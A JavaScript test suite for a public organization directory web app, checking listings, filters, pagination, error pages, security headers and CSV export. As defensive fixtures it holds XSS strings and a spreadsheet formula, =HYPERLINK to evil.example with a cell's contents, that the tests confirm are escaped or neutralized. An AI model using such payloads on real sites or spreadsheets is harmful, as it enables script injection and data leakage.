// list.test.mjs - the public directory through real nginx: what a visitor sees, the answers
// to bad input, and the CSV a board member downloads. Every expected number comes from SQLite.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { get, sql, sqlRows, listedOrgs, filterOptions, parseCsv, unescapeHtml } from './helpers.mjs';

const listed = Number(sql("SELECT count(*) FROM org WHERE status = 'listed'"));

test('the directory shows the first 50 listed organizations by name, and the total', async () => {
  const r = await get('/list');
  assert.equal(r.status, 200);
  assert.match(r.headers.get('content-type'), /^text\/html; charset=utf-8/);
  assert.match(r.text, new RegExp(`<h2 id="results-heading">${listed.toLocaleString('en-US')} organizations</h2>`));
  const orgs = listedOrgs(r.text);
  const expected = sqlRows("SELECT id FROM org WHERE status = 'listed' ORDER BY name COLLATE NOCASE, id LIMIT 50").map((x) => Number(x[0]));
  assert.deepEqual(orgs.map((o) => o.id), expected);
  assert.match(r.text, new RegExp(`page 1 of ${Math.ceil(listed / 50)}`));
});

test('pending applications never appear', async () => {
  const pending = sqlRows("SELECT id, name FROM org WHERE status = 'pending'");
  assert.ok(pending.length > 0);
  const exported = new Set(parseCsv((await get('/list?format=csv')).text.replace(/^\uFEFF/, '')).slice(1).map((row) => row[0]));
  for (const [id, name] of pending) {
    assert.ok(!exported.has(id), `${name} is pending but exported`);
    assert.equal((await get(`/list/${id}`)).status, 404);
  }
});

test('the last page holds the remainder and links back, not forward', async () => {
  const pages = Math.ceil(listed / 50);
  const r = await get(`/list?page=${pages}`);
  assert.equal(r.status, 200);
  assert.equal(listedOrgs(r.text).length, listed - 50 * (pages - 1));
  assert.match(r.text, /rel="prev"/);
  assert.doesNotMatch(r.text, /rel="next"/);
  assert.equal((await get(`/list?page=${pages + 1}`)).status, 404);
});

test('every filter choice comes from the data, with its count', async () => {
  const html = (await get('/list')).text;
  const checks = {
    country: "SELECT country, count(*) FROM org WHERE status = 'listed' GROUP BY country",
    type: "SELECT type, count(*) FROM org WHERE status = 'listed' GROUP BY type",
    kind: "SELECT kind, count(*) FROM org WHERE status = 'listed' GROUP BY kind",
    language: "SELECT lang, count(*) FROM org_language JOIN org ON id = org_id WHERE status = 'listed' GROUP BY lang",
    interest: "SELECT interest, count(*) FROM org_interest JOIN org ON id = org_id WHERE status = 'listed' GROUP BY interest",
  };
  for (const [name, query] of Object.entries(checks)) {
    const shown = Object.fromEntries(filterOptions(html, name).map((o) => [o.value, o.count]));
    const truth = Object.fromEntries(sqlRows(query).map(([v, n]) => [v, Number(n)]));
    assert.deepEqual(shown, truth, `${name} choices`);
  }
  const seeking = filterOptions(html, 'seeking');
  assert.deepEqual(seeking.map((o) => [o.value, o.count]), [
    ['yes', Number(sql("SELECT count(*) FROM org WHERE status = 'listed' AND seeking = 1"))],
    ['no', Number(sql("SELECT count(*) FROM org WHERE status = 'listed' AND seeking = 0"))],
  ]);
  assert.ok(filterOptions(html, 'country').find((o) => o.value === 'UA').label === 'Ukraine');
});

test('a filter narrows the list and keeps the other choices open', async () => {
  const r = await get('/list?country=UA');
  assert.equal(r.status, 200);
  const expected = sqlRows("SELECT id FROM org WHERE status = 'listed' AND country = 'UA' ORDER BY name COLLATE NOCASE, id").map((x) => Number(x[0]));
  assert.ok(expected.length >= 3);
  assert.deepEqual(listedOrgs(r.text).map((o) => o.id), expected);
  const countries = filterOptions(r.text, 'country');
  assert.ok(countries.find((o) => o.value === 'UA').selected);
  assert.ok(countries.length > 30, 'other countries stay selectable');
  assert.match(r.text, /<p class="chip">Country: Ukraine <a href="\/list">Remove/);
});

test('filters combine: kind, type, language, interest and seeking together', async () => {
  const r = await get('/list?kind=library&type=public&language=es&interest=pen_pals&seeking=yes&sort=country');
  assert.equal(r.status, 200);
  const expected = sqlRows(`SELECT o.id FROM org o JOIN country c ON c.code = o.country
    WHERE status = 'listed' AND kind = 'library' AND type = 'public' AND seeking = 1
    AND EXISTS (SELECT 1 FROM org_language WHERE org_id = o.id AND lang = 'es')
    AND EXISTS (SELECT 1 FROM org_interest WHERE org_id = o.id AND interest = 'pen_pals')
    ORDER BY c.name, o.name COLLATE NOCASE, o.id`).map((x) => Number(x[0]));
  assert.ok(expected.length >= 3, 'the demo data has such libraries');
  assert.deepEqual(listedOrgs(r.text).map((o) => o.id), expected);
  const empty = await get('/list?country=AQ');
  assert.equal(empty.status, 200);
  assert.match(empty.text, /No organization matches these filters/);
});

test('sorting by most recently confirmed puts the freshest entry first', async () => {
  const r = await get('/list?sort=confirmed');
  const first = sql("SELECT id FROM org WHERE status = 'listed' ORDER BY confirmed_on DESC, name COLLATE NOCASE, id LIMIT 1");
  assert.equal(listedOrgs(r.text)[0].id, Number(first));
  assert.match(r.text, /<option value="confirmed" selected>/);
});

test('the whole view is in the URL: pagination keeps filters and sort', async () => {
  const r = await get('/list?seeking=yes&sort=country');
  const next = r.text.match(/<a rel="next" href="([^"]*)"/)[1];
  assert.equal(unescapeHtml(next), '/list?seeking=yes&sort=country&page=2');
  const page2 = await get(unescapeHtml(next));
  assert.equal(page2.status, 200);
  assert.match(page2.text, /page 2 of/);
});

test('a profile shows the organization and when it was last confirmed', async () => {
  const [id, name, confirmed] = sqlRows("SELECT id, name, confirmed_on FROM org WHERE name LIKE 'Львівська%'")[0];
  const r = await get(`/list/${id}`);
  assert.equal(r.status, 200);
  assert.ok(r.text.includes(`<h1 dir="auto">${name}</h1>`));
  assert.ok(r.text.includes(`<time datetime="${confirmed}">${confirmed}</time>`));
  assert.doesNotMatch(r.text, /Possibly out of date/);
  assert.match(r.text, /partners@lviv-kids-library\.example/, 'a public email is shown');
  assert.match(r.text, /Maple Falls Public Library/, 'its partnership is listed');
  const hidden = sqlRows("SELECT id, contact_email FROM org WHERE contact_email <> '' AND email_public = 0")[0];
  assert.ok(!(await get(`/list/${hidden[0]}`)).text.includes(hidden[1]), 'a private email stays private');
});

test('an entry not confirmed for over a year is marked possibly out of date', async () => {
  const stale = sql("SELECT id FROM org WHERE status = 'listed' AND confirmed_on < date('now', '-13 months') LIMIT 1");
  const r = await get(`/list/${stale}`);
  assert.match(r.text, /<strong>Possibly out of date:<\/strong>/);
  const never = sql("SELECT id FROM org WHERE name = 'Unconfirmed Reading Room'");
  assert.match((await get(`/list/${never}`)).text, /last confirmed on never/);
  const list = await get('/list?sort=confirmed&page=' + Math.ceil(listed / 50));
  assert.match(list.text, /possibly out of date/);
});

test('unknown organizations and malformed profile addresses are 404 pages', async () => {
  for (const path of ['/list/999999', '/list/0', '/list/abc', '/list/1/extra', '/list/-1', '/list/99999999999999999999']) {
    const r = await get(path);
    assert.equal(r.status, 404, path);
    assert.match(r.text, /<h1>Not Found<\/h1>/);
    assert.match(r.text, /Go to the directory/);
  }
});

test('bad parameters get a 400 page naming the parameter and what is allowed', async () => {
  const cases = [
    ['page=-1', 'page must be a whole number from 1 to 100000.'],
    ['page=abc', 'page must be a whole number from 1 to 100000.'],
    ['country=ZZZ', 'country: “ZZZ” is not known here; use a two-letter ISO 3166 country code in capitals, such as FR or BR.'],
    ['country=fr', 'country: “fr” is not known here'],
    ['sort=newest', 'sort must be one of: name, country, confirmed.'],
    ['kind=%FF', 'kind is not valid UTF-8 text.'],
    ['type=%C0%AF', 'type is not valid UTF-8 text.'],
    ['interest=' + 'x'.repeat(10240), 'interest: “xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx…” is not known here'],
    ['page=1&page=2', 'page is given more than once; give it once.'],
    ['format=pdf', 'format must be one of: html, csv.'],
    ['language=%zz', 'language has a broken %-escape.'],
  ];
  for (const [query, message] of cases) {
    const r = await get('/list?' + query);
    assert.equal(r.status, 400, query.slice(0, 40));
    assert.ok(unescapeHtml(r.text).includes(message), `${query.slice(0, 40)} → ${message}`);
    assert.match(r.text, /<h1>Bad Request<\/h1>/);
  }
});

test('only GET and HEAD are answered', async () => {
  for (const method of ['POST', 'PUT', 'DELETE']) {
    const r = await get('/list', { method, body: method === 'DELETE' ? undefined : 'a=b' });
    assert.equal(r.status, 405, method);
    assert.equal(r.headers.get('allow'), 'GET, HEAD');
  }
  const head = await get('/list', { method: 'HEAD' });
  assert.equal(head.status, 200);
  assert.equal(head.body.length, 0);
});

test('hostile names are shown as text, never run as markup', async () => {
  const id = sql("SELECT id FROM org WHERE name LIKE '<script>%'");
  const r = await get(`/list/${id}`);
  assert.equal(r.status, 200);
  assert.ok(r.text.includes('&lt;script&gt;alert(&quot;xss&quot;)&lt;/script&gt; Library'));
  assert.ok(r.text.includes('&lt;img src=x onerror=alert(1)&gt;'));
  assert.doesNotMatch(r.text, /<script>|<img src=x/);
  const list = await get('/list?country=GB');
  assert.doesNotMatch(list.text, /<script>|<img src=x/);
});

test('pages carry security headers and the stylesheet is served', async () => {
  const r = await get('/list');
  assert.match(r.headers.get('content-security-policy'), /frame-ancestors 'none'/);
  assert.equal(r.headers.get('x-content-type-options'), 'nosniff');
  const css = await get('/static/liaison.css');
  assert.equal(css.status, 200);
  assert.match(css.text, /@media print/);
  assert.equal(new URL((await get('/')).headers.get('location'), 'http://x').pathname, '/list');
});

test('CSV: the whole filtered list, with BOM, header, CRLF and RFC 4180 quoting', async () => {
  const r = await get('/list?seeking=yes&format=csv&page=2');
  assert.equal(r.status, 200);
  assert.equal(r.headers.get('content-type'), 'text/csv; charset=utf-8');
  assert.match(r.headers.get('content-disposition'), /^attachment; filename="liaison-directory-yes-\d{4}-\d{2}-\d{2}\.csv"$/);
  assert.deepEqual([...r.body.subarray(0, 3)], [0xef, 0xbb, 0xbf]);
  const rows = parseCsv(r.text.slice(1));
  assert.deepEqual(rows[0], ['id', 'name', 'other_name', 'kind', 'type', 'country_code', 'country',
    'region', 'city', 'website', 'languages', 'interests', 'ages_served', 'time_zone', 'seeking',
    'seeking_what', 'commitment', 'confirmed_on', 'public_email', 'description', 'profile_url']);
  const truth = sqlRows("SELECT id FROM org WHERE status = 'listed' AND seeking = 1 ORDER BY name COLLATE NOCASE, id").map((x) => x[0]);
  assert.ok(truth.length > 100, 'more than two pages');
  assert.deepEqual(rows.slice(1).map((row) => row[0]), truth, 'every page, in order; page= is ignored');
  assert.ok(rows.every((row) => row.length === 21));
  const lviv = rows.find((row) => row[1].startsWith('Львівська'));
  // Absolute from the dev server's own name (its nginx's server_name) and port, never from
  // the client's Host (security.test.mjs).
  assert.equal(lviv[20], `http://127.0.0.1:${new URL(process.env.LIAISON_BASE).port}/list/${lviv[0]}`);
  assert.equal(lviv[18], 'partners@lviv-kids-library.example');
});

test('CSV: text as typed (no HTML entities) and formulas neutralized', async () => {
  const r = await get('/list?country=FR&format=csv');
  const rows = parseCsv(r.text.slice(1));
  const evil = rows.find((row) => row[1].includes('HYPERLINK'));
  assert.equal(evil[1], `'=HYPERLINK("http://evil.example/?"&A1,"Click")`);
  assert.equal(evil[2], "'+SUM(1,2)");
  assert.equal(evil[8], "'@Paris");
  assert.equal(evil[19], `'-2+3 <b>bold</b> & "quotes"`);
  assert.ok(rows.some((row) => row[1] === 'Bibliothèque municipale de Lyon – Part-Dieu'));
  const gb = parseCsv((await get('/list?country=GB&format=csv')).text.slice(1));
  assert.ok(gb.some((row) => row[1] === '<script>alert("xss")</script> Library' && row[2] === 'Fish & Chips "Library"'));
  assert.ok(!r.text.includes('&amp;') && !r.text.includes('&quot;'));
});

test('a bad parameter on a CSV request is still a readable 400', async () => {
  const r = await get('/list?format=csv&country=ZZZ');
  assert.equal(r.status, 400);
  assert.match(r.headers.get('content-type'), /text\/html/);
});

test('a change in the database shows on the very next request (pages are cached per process)', async () => {
  const id = sql("SELECT id FROM org WHERE country = 'KE' AND status = 'listed' ORDER BY name LIMIT 1");
  const name = sql(`SELECT name FROM org WHERE id = ${id}`);
  const before = Number(sql("SELECT count(*) FROM org WHERE country = 'KE' AND status = 'listed'"));
  // Ask often enough that both FastCGI processes have the page cached.
  for (let i = 0; i < 6; i++)
    assert.equal(listedOrgs((await get('/list?country=KE')).text).length, before);
  try {
    sql(`UPDATE org SET status = 'unlisted' WHERE id = ${id}`);
    for (let i = 0; i < 6; i++) {
      const r = await get('/list?country=KE');
      assert.equal(listedOrgs(r.text).length, before - 1);
      assert.ok(!listedOrgs(r.text).some((o) => o.name === name));
      assert.match(r.text, new RegExp(`${before - 1} organization`));
    }
  } finally {
    sql(`UPDATE org SET status = 'listed' WHERE id = ${id}`);
  }
  assert.equal(listedOrgs((await get('/list?country=KE')).text).length, before);
});
